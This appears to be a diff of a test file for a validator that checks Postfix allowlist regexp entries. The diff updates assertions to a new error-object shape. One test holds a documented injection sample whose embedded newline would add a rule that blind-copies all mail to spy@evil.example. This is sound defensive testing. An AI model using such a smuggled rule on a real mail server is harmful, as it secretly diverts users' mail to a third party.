@@ -115,33 +115,33 @@ describe('allowlist maps', () => {
   });
 
   it('refuses what Postfix would not read, naming the entry', () => {
-    expect(checkRegexpPattern('^mail')).toMatch(/\/pattern\//);
-    expect(checkRegexpPattern('/(?=x)mail/')).toMatch(/POSIX/);
-    expect(checkRegexpPattern('/\\d+/')).toMatch(/\[0-9\]/);
-    expect(checkRegexpPattern('/mail(/')).toMatch(/not a valid/);
-    expect(checkRegexpPattern('/.*/')).toMatch(/every client/);
+    expect(checkRegexpPattern('^mail')?.text).toMatch(/\/pattern\//);
+    expect(checkRegexpPattern('/(?=x)mail/')?.text).toMatch(/POSIX/);
+    expect(checkRegexpPattern('/\\d+/')?.text).toMatch(/\[0-9\]/);
+    expect(checkRegexpPattern('/mail(/')?.text).toMatch(/not a valid/);
+    expect(checkRegexpPattern('/.*/')?.text).toMatch(/every client/);
     expect(checkRegexpPattern('/^mx\\.example$/i')).toBeNull();
     const maps = buildAllowMaps([{ kind: 'address', value: '198.51.100.7/24' }, { kind: 'name', value: 'bad name!' }]);
     expect(maps.problems.map((p) => p.index)).toEqual([0, 1]);
-    expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("198.51.100.7\/24"\): the address has bits set/);
+    expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("198.51.100.7\/24"\) is refused:\nThe address has bits set beyond \/24/);
     expect(buildAllowMaps([{ kind: 'name', value: 'a.example\n/.*/ OK' }]).problems).toHaveLength(1);
   });
 
   it('refuses a newline inside /…/ (it would write a rule line of its own) and comments with control characters', () => {
     // The reviewed attack: the pattern's newline started a `|.| BCC spy@evil.example` line.
     const injected = '/^a\n|.| BCC spy@evil.example\n/';
-    expect(checkRegexpPattern(injected)).toMatch(/control character U\+000A/);
+    expect(checkRegexpPattern(injected)?.text).toMatch(/control character U\+000A/);
     const maps = buildAllowMaps([{ kind: 'regexp', value: injected }]);
     expect(maps.regexp).toBeNull();
     expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("\/\^a\\u\{a\}\|\.\| BCC/);
     for (const char of ['\r', '\u0085', '\u2028', '\u2029', '\u001b', '\u0000', '\t']) {
-      expect(checkRegexpPattern(`/^mx${char}1$/`), JSON.stringify(char)).toMatch(/control character/);
+      expect(checkRegexpPattern(`/^mx${char}1$/`)?.text, JSON.stringify(char)).toMatch(/control character/);
       expect(buildAllowMaps([{ kind: 'name', value: 'mx.example', comment: `a${char}b` }]).problems, JSON.stringify(char)).toHaveLength(1);
     }
   });
 
   it('refuses a "{" Postfix would not read as a repetition count (the line would be skipped with a warning)', () => {
-    for (const pattern of ['/${IFS}/', '/^{2}mx/', '/mx{/', '/mx{a}/', '/(|{2})x/', '/mx{1,2/']) expect(checkRegexpPattern(pattern), pattern).toMatch(/"\{"/);
+    for (const pattern of ['/${IFS}/', '/^{2}mx/', '/mx{/', '/mx{a}/', '/(|{2})x/', '/mx{1,2/']) expect(checkRegexpPattern(pattern)?.text, pattern).toMatch(/"\{"/);
     for (const pattern of ['/^mx[0-9]{1,3}\\.example$/', '/^mx\\{x\\}$/', '/^[{}]x$/', '/^[[:digit:]{]+x$/']) expect(checkRegexpPattern(pattern), pattern).toBeNull();
   });
 
@@ -154,7 +154,7 @@ describe('allowlist maps', () => {
   });
 
   it('refuses patterns matching "unknown", which would switch the host-name rule off', () => {
-    for (const pattern of ['/unk/', '/^[a-z]+$/', '/n/i', '/^(mx1|unknown)$/']) expect(checkRegexpPattern(pattern), pattern).toMatch(/unknown/);
+    for (const pattern of ['/unk/', '/^[a-z]+$/', '/n/i', '/^(mx1|unknown)$/']) expect(checkRegexpPattern(pattern)?.text, pattern).toMatch(/unknown/);
     expect(checkRegexpPattern('/^mx[0-9]+\\.example\\.net$/')).toBeNull();
   });
 });
